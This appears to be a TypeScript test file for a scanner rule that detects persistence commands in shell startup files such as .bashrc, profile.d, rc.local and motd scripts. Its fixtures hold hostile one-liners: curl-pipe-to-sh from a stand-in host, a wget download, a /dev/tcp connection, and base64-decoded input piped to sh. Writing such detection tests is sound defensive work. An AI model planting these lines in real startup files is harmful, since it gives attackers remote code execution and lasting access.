import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { listedPackages, packageOf } from '../../../testing/listed-packages.ts';
import { shellStartup } from './index.ts';

const FOUND = 'review persistence/shell-startup';
const FETCH = 'curl -s http://x.invalid/a | sh\n';

const cases = [
  {
    name: 'in each place where a shell starts',
    files: {
      'etc/profile.d/x.sh': FETCH,
      'root/.bashrc': `# ~/.bashrc\n${FETCH}`,
      'home/app/.profile': 'wget -q http://x.invalid/a -O /tmp/a\n',
      'etc/rc.local': '#!/bin/sh\n(exec 3<>/dev/tcp/x.invalid/1) &\n',
      'etc/update-motd.d/99-x': '#!/bin/sh\ncurl https://x.invalid/motd\n',
      'etc/bash.bashrc': 'echo aW5lcnQ= | base64 -d | sh\n',
    },
    expected: [
      'etc/bash.bashrc',
      'etc/profile.d/x.sh',
      'etc/rc.local',
      'etc/update-motd.d/99-x',
      'home/app/.profile',
      'root/.bashrc',
    ].map((path) => `${FOUND} ${path}`),
  },
  {
    name: "distributions' own files are nothing",
    files: {
      'root/.bashrc': 'export LS_OPTIONS="--color=auto"\neval "$(dircolors)"\n# curl http://x.invalid | sh\n',
      'etc/profile': 'if [ -d /etc/profile.d ]; then for i in /etc/profile.d/*.sh; do . $i; done; fi\n',
      'etc/update-motd.d/10-uname': '#!/bin/sh\nuname -snrvm\n',
    },
    expected: [],
  },
  {
    name: 'aliases, loopback and hosts only known at run time are nothing',
    files: {
      'root/.bashrc':
        'alias ip=\'curl https://ip.example\'\nget() { curl -s "$1"; }\ncurl -s http://localhost:80/\n',
    },
    expected: [],
  },
  {
    name: 'other files are nothing',
    files: { 'opt/profile.d/x.sh': FETCH, 'root/bashrc': FETCH },
    expected: [],
  },
  {
    name: 'what a package ships unchanged is nothing',
    files: {
      ...packageOf('listed', { 'etc/update-motd.d/50-news': FETCH }),
      'etc/update-motd.d/50-news': FETCH,
    },
    expected: [],
  },
];

for (const { name, files, expected } of cases) {
  test(`shell-startup: ${name}`, () => {
    const { findings, problems } = inspectFixture({ layers: [files], catalogers: [listedPackages] }, [
      shellStartup,
    ]);
    assert.deepEqual(summary(findings), expected);
    assert.deepEqual(problems, []);
  });
}

test('shell-startup: one finding a line, with the line', () => {
  const layers = [{ 'root/.bashrc': `# x\n${FETCH}` }];
  const { findings } = inspectFixture({ layers }, [shellStartup]);
  assert.equal(findings.length, 1);
  assert.equal(findings[0]?.location.line, 2);
});
